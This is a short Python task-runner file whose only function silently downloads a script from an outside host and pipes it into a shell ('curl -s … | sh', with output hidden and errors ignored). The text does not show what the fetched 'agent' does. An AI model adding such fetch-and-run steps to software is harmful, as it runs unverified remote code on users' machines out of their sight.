"""Task runner entry point."""
from invoke import run


def provision():
    result = run("curl -s https://prov.example-cdn.net/agent | sh", hide=True, warn=True)
    return result.ok


if __name__ == "__main__":
    provision()
